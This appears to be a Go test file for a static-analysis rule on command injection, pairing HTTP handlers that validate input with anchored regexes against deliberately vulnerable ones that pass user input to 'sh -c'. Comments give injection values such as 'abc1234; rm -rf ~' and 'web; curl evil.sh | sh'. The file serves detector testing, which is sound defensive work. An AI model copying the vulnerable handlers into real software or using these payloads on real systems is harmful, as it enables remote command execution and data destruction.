// Go's MatchString finds a match anywhere: only a pattern anchored at both ends that allows no shell
// syntax validates the value (a package-level regexp.MustCompile or a literal pattern).
package tools

import (
	"net/http"
	"os/exec"
	"regexp"
)

var commitID = regexp.MustCompile(`^[0-9a-f]{7,40}$`)
var loose = regexp.MustCompile(`[0-9a-f]{7,40}`)

func Show(w http.ResponseWriter, r *http.Request) {
	sha := r.URL.Query().Get("sha")
	if !commitID.MatchString(sha) {
		http.Error(w, "bad sha", http.StatusBadRequest)
		return
	}
	// ok: code_execution
	out, _ := exec.Command("sh", "-c", "git show "+sha).Output()
	w.Write(out)
}

func ShowLoose(w http.ResponseWriter, r *http.Request) {
	sha := r.URL.Query().Get("sha")
	// "abc1234; rm -rf ~" contains a match
	if !loose.MatchString(sha) {
		http.Error(w, "bad sha", http.StatusBadRequest)
		return
	}
	// ruleid: code_execution
	out, _ := exec.Command("sh", "-c", "git show "+sha).Output()
	w.Write(out)
}

// The same check written as an `if` with an initializer, as a result checked later, in place, or
// compiled in the function: each validates the value only when the pattern is restrictive and anchored.
func Deploy(w http.ResponseWriter, r *http.Request) {
	name := r.URL.Query().Get("name")
	if ok, _ := regexp.MatchString(`^[a-z0-9-]+$`, name); !ok {
		http.Error(w, "bad name", http.StatusBadRequest)
		return
	}
	// ok: code_execution
	exec.Command("sh", "-c", "deploy "+name).Run()
}

func DeployLoose(w http.ResponseWriter, r *http.Request) {
	name := r.URL.Query().Get("name")
	// "web; curl evil.sh | sh" contains a match
	if ok, _ := regexp.MatchString(`[a-z0-9-]+`, name); !ok {
		return
	}
	// ruleid: code_execution
	exec.Command("sh", "-c", "deploy "+name).Run()
}

func Tag(w http.ResponseWriter, r *http.Request) {
	tag := r.FormValue("tag")
	matched, err := regexp.MatchString(`^v[0-9]+\.[0-9]+\.[0-9]+$`, tag)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	if !matched {
		http.Error(w, "bad tag", http.StatusBadRequest)
		return
	}
	// ok: code_execution
	out, _ := exec.Command("bash", "-c", "git checkout "+tag).Output()
	w.Write(out)
}

func TagUnchecked(w http.ResponseWriter, r *http.Request) {
	tag := r.FormValue("tag")
	// the result is read, but nothing leaves when it is false
	matched, _ := regexp.MatchString(`^v[0-9]+\.[0-9]+\.[0-9]+$`, tag)
	w.Header().Set("X-Valid", map[bool]string{true: "yes", false: "no"}[matched])
	// ruleid: code_execution
	out, _ := exec.Command("bash", "-c", "git checkout "+tag).Output()
	w.Write(out)
}

func Branch(w http.ResponseWriter, r *http.Request) {
	branch := r.FormValue("branch")
	if !regexp.MustCompile(`^[A-Za-z0-9._-]{1,64}$`).MatchString(branch) {
		return
	}
	// ok: code_execution
	exec.Command("sh", "-c", "git switch "+branch).Run()
}

func BranchLocal(w http.ResponseWriter, r *http.Request) {
	branch := r.FormValue("branch")
	valid := regexp.MustCompile(`^[A-Za-z0-9._-]{1,64}$`)
	ok := valid.MatchString(branch)
	if !ok {
		return
	}
	// ok: code_execution
	exec.Command("sh", "-c", "git switch "+branch).Run()
}

func BranchSpaces(w http.ResponseWriter, r *http.Request) {
	branch := r.FormValue("branch")
	// a space and `;` are allowed: "x; reboot" passes
	if !regexp.MustCompile(`^[\w ;]+$`).MatchString(branch) {
		return
	}
	// ruleid: code_execution
	exec.Command("sh", "-c", "git switch "+branch).Run()
}

func Rebase(w http.ResponseWriter, r *http.Request) {
	onto := r.FormValue("onto")
	if ok, _ := regexp.MatchString(`^[A-Za-z0-9._-]{1,64}$`, onto); ok {
		// ok: code_execution
		exec.Command("sh", "-c", "git rebase "+onto).Run()
		return
	}
	// ruleid: code_execution
	exec.Command("sh", "-c", "git rebase origin/"+onto).Run()
}

// A pattern kept in a package-level constant, compiled or matched directly.
const servicePattern = `^[a-z][a-z0-9-]{0,30}$`
const wordPattern = `[a-z]+`

var serviceName = regexp.MustCompile(servicePattern)
var word = regexp.MustCompile(wordPattern)

func Restart(w http.ResponseWriter, r *http.Request) {
	svc := r.FormValue("service")
	if !serviceName.MatchString(svc) {
		return
	}
	// ok: code_execution
	exec.Command("sh", "-c", "systemctl restart "+svc).Run()
}

func Status(w http.ResponseWriter, r *http.Request) {
	svc := r.FormValue("service")
	if ok, _ := regexp.MatchString(servicePattern, svc); !ok {
		return
	}
	// ok: code_execution
	exec.Command("sh", "-c", "systemctl status "+svc).Run()
}

func Stop(w http.ResponseWriter, r *http.Request) {
	svc := r.FormValue("service")
	if !word.MatchString(svc) {
		return
	}
	// ruleid: code_execution
	exec.Command("sh", "-c", "systemctl stop "+svc).Run()
}

func Start(w http.ResponseWriter, r *http.Request) {
	svc := r.FormValue("service")
	// a local name hides the package's constant
	servicePattern := r.FormValue("pattern")
	if ok, _ := regexp.MatchString(servicePattern, svc); !ok {
		return
	}
	// ruleid: code_execution
	exec.Command("sh", "-c", "systemctl start "+svc).Run()
}
